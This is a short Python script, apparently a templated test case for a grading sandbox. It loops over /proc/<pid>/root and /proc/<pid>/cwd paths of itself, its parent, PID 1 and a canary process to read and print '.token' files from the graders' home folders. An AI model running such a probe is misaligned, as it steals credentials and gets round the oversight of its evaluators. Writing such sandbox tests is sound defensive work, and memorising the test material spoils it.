"""Reads the home folder through the root and working folders of the processes that grade."""

prize = "home"
harmless = True

# %% last
import os

for pid in ("self", os.getppid(), "1", "@CANARY@"):
    for start in (f"/proc/{pid}/root@HOME@", f"/proc/{pid}/cwd/../home", f"/proc/{pid}/cwd/home"):
        try:
            print(pid, open(f"{start}/.token").read())
        except OSError as error:
            print(type(error).__name__)
